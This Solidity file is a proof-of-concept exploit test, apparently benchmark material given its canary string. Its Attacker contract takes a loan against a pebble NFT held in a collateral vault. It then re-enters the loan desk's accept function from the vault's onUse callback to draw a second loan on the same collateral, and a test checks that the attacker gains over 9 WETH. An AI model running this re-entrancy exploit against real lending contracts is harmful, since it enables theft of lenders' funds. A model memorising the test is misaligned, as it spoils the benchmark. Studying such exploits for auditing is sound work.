// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker is IItemUser {
    LoanDesk private desk;
    uint256 public loan;
    Offer private offer;
    bytes private signature;

    constructor(LoanDesk desk_) {
        desk = desk_;
    }

    function borrow(Mint pebble, Offer calldata o, bytes calldata signature_, address to) external {
        pebble.setApprovalForAll(address(desk.vault()), true);
        loan = desk.accept(o, signature_, 51, new bytes32[](0));
        Weth(o.currency).transfer(to, Weth(o.currency).balanceOf(address(this)));
    }

    function run(CollateralVault vault, Offer calldata o, bytes calldata signature_) external {
        (offer, signature) = (o, signature_);
        vault.use(loan, this, "");
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }

    function onUse(uint256, Item calldata, address, bytes calldata) external {
        desk.accept(offer, signature, 51, new bytes32[](0));
    }
}

contract Proof is Base {
    Attacker private other;
    Offer private second;
    bytes private signature;

    function _start() internal override {
        other = new Attacker(desk);
        pebble.mint(address(other), 51);
        Offer memory o = _offer(cee, address(pebble), 10e18, 1_000, 60 days);
        o.nonce = 20;
        other.borrow(pebble, o, _signed(o, CEE_KEY), FAR);
        second = _offer(dee, address(pebble), 10e18, 1_000, 60 days);
        signature = _signed(second, DEE_KEY);
    }

    function exploit() public {
        other.run(vault, second, signature);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 9e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
